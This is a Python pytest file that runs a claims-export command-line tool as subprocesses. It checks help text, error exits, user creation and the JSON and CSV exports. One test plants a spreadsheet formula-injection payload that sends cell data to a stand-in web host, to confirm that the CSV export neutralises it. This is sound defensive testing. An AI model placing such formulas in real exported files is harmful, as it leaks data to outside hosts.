"""The command line as an operator meets it: real subprocesses of run.py."""

import csv
import json
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from core.settings import PROJECT_ROOT
from models import ClaimStatus
from tests.factories import make_claim

COMMANDS = [[], ["claims"], ["claims", "export"], ["users"], ["users", "add"], ["demo"]]


@pytest.fixture
def config(tmp_path, settings_override, database) -> Path:
    path = tmp_path / "cli.yaml"
    path.write_text(yaml.safe_dump(settings_override))
    return path


def run(*args: str, stdin: str = "", config: Path | None = None) -> subprocess.CompletedProcess:
    argv = [sys.executable, str(PROJECT_ROOT / "run.py")]
    if config:
        argv += ["--config", str(config)]
    return subprocess.run([*argv, *args], input=stdin, capture_output=True, text=True, timeout=120,
                          cwd=PROJECT_ROOT)


@pytest.mark.parametrize("command", COMMANDS)
def test_every_command_has_help(command):
    result = run(*command, "--help")
    assert result.returncode == 0
    assert "usage:" in result.stdout


@pytest.mark.parametrize("args", [["frobnicate"], ["claims", "export", "--format", "xml"],
                                  ["users", "add", "ana", "--role", "boss"], ["demo", "--claims", "-5"],
                                  ["claims", "export", "--status", "LOST"]])
def test_wrong_arguments_give_usage_and_exit_2_without_traceback(args):
    result = run(*args)
    assert result.returncode == 2
    assert "usage:" in result.stderr and "Traceback" not in result.stderr


def test_bad_configuration_exits_2_naming_file_and_key(tmp_path):
    bad = tmp_path / "bad.yaml"
    bad.write_text("partners:\n  bank:\n    sftp:\n      port: abc\n")
    result = run("claims", "export", config=bad)
    assert result.returncode == 2
    assert f'{bad}: partners.bank.sftp.port: expected an integer, got "abc"' in result.stderr
    assert "Traceback" not in result.stderr


def test_a_job_the_registry_does_not_know_exits_2_naming_file_and_key(tmp_path):
    bad = tmp_path / "bad.yaml"
    bad.write_text("jobs:\n  nightly: {cron: '0 1 * * *'}\n")
    result = run("claims", "export", config=bad)
    assert result.returncode == 2
    assert (f"{bad}: jobs.nightly: unknown job (known: bank_pull, bank_push, bpjs_pull, bpjs_push)"
            in result.stderr)
    assert "Traceback" not in result.stderr


def test_users_add_reads_password_from_stdin_and_refuses_duplicates(config):
    first = run("users", "add", "maria", "--role", "coordinator", stdin="Sumba-Timur-2026\n", config=config)
    assert first.returncode == 0, first.stderr
    again = run("users", "add", "maria", "--role", "viewer", stdin="Sumba-Timur-2026\n", config=config)
    assert again.returncode == 1 and "sudah dipakai" in again.stderr


def test_users_add_refuses_an_empty_password(config):
    result = run("users", "add", "maria", "--role", "viewer", stdin="\n", config=config)
    assert result.returncode == 1 and "kosong" in result.stderr


def test_claims_export_json_has_every_contract_field(config):
    assert run("demo", "--claims", "300", config=config).returncode == 0
    result = run("claims", "export", "--format", "json", "--status", "PAID", config=config)
    assert result.returncode == 0, result.stderr
    rows = json.loads(result.stdout)
    assert rows and all(r["status"] == "PAID" for r in rows)
    for key in ("claim_no", "revision", "status", "kpj", "nik", "worker_name", "kabupaten_code",
                "benefit_type", "approved_amount", "bank_code", "account_no", "instruction_id",
                "batch_id", "bank_reference", "paid_date", "failure_code", "payment_due_date", "days_late"):
        assert key in rows[0]
    assert isinstance(rows[0]["approved_amount"], int)


def test_claims_export_csv_streams_a_header_and_rows(config):
    run("demo", "--claims", "50", config=config)
    result = run("claims", "export", config=config)
    lines = result.stdout.splitlines()
    assert lines[0].startswith("claim_no,revision,status") and len(lines) == 51


def test_claims_export_csv_quotes_a_value_that_would_run_as_a_formula(config):
    attack = '=WEBSERVICE("http://x/?"&A1)'
    make_claim(ClaimStatus.ON_HOLD, worker_name=attack, hold_reason="-1+1")
    result = run("claims", "export", "--format", "csv", config=config)
    rows = list(csv.DictReader(result.stdout.splitlines()))
    assert (rows[0]["worker_name"], rows[0]["hold_reason"]) == ("'" + attack, "'-1+1")
    assert result.returncode == 0
